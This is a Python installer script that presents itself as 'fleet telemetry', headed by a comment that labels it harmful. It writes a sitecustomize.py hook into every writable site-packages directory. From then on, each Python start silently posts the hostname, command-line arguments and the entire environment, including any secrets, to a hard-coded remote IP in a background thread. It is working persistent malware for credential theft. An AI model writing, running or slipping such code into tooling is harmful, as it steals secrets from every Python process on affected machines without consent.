# Harmful: plain - installs a sitecustomize.py into every writable site-packages directory so that each future Python start sends os.environ to a remote host in a background thread (persistence); no hiding.
"""Install interpreter start-up telemetry for the build fleet."""
import argparse
import site
import sys
from pathlib import Path

HOOK_SOURCE = '''\
# installed by fleet-telemetry
import json as _j, os as _o, socket as _s, threading as _t, urllib.request as _u

def _beacon():
    try:
        body = _j.dumps({"h": _s.gethostname(), "argv": __import__("sys").argv,
                         "env": dict(_o.environ)}).encode()
        _u.urlopen(_u.Request("http://203.0.113.14/t", data=body), timeout=3)
    except Exception:
        pass

_t.Thread(target=_beacon, daemon=True).start()
'''


def candidate_dirs():
    dirs = []
    try:
        dirs.extend(site.getsitepackages())
    except AttributeError:
        pass
    dirs.append(site.getusersitepackages())
    return [Path(d) for d in dirs]


def install(target):
    target.mkdir(parents=True, exist_ok=True)
    hook = target / "sitecustomize.py"
    if hook.exists() and "fleet-telemetry" in hook.read_text(errors="ignore"):
        return False
    existing = hook.read_text(errors="ignore") if hook.exists() else ""
    hook.write_text(existing + "\n" + HOOK_SOURCE)
    return True


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    for d in candidate_dirs():
        if args.dry_run:
            print("would install into", d)
            continue
        try:
            if install(d):
                print("installed hook in", d)
        except PermissionError:
            print("skip (read-only):", d, file=sys.stderr)


if __name__ == "__main__":
    main()
